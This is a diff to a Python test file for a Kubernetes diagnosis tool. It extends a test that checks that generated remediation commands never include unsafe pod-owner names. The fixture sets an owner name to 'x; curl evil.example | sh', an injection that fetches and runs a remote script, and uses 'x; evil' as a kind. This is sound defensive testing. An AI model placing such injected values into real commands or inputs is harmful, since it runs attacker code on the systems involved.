@@ -10,6 +10,7 @@ from tests.diagnosis.installations import WHOLE, own_pod
 from tests.diagnosis.worlds import EPC, around, belonging, container, event, node, pod, saying, with_spec, workload
 from tests.labour import least_labour
 
+from donjon.diagnosis.commands import change, remake
 from donjon.diagnosis.explanation import ClusterState
 from donjon.diagnosis.installation import DonjonState, Sight
 from donjon.diagnosis.pod import MAX_FINDINGS, explain
@@ -252,9 +253,9 @@ def test_nobody_is_told_to_give_a_node_hundreds_of_labels() -> None:
     assert_plain(answer)
 
 
-@pytest.mark.parametrize("kind", ["Job", "StatefulSet"])
-def test_an_owners_name_that_no_thing_can_have_becomes_part_of_no_command(kind: str) -> None:
+@pytest.mark.parametrize("way", [change, remake])
+@pytest.mark.parametrize("kind", ["Job", "StatefulSet", "x; evil"])
+def test_an_owner_such_as_no_thing_can_be_called_becomes_part_of_no_command(kind: str, way: Callable[[JsonObject], str]) -> None:
     """Whoever makes a pod writes its owners, and the API server looks at no name there."""
     owned = belonging(pod("1Ti"), {"kind": kind, "metadata": {"name": "x; curl evil.example | sh", "uid": "u"}})
-    answer = explain(owned, around(node("a")))
-    assert "evil" not in str([finding.do for finding in answer.findings])
+    assert "evil" not in way(owned)
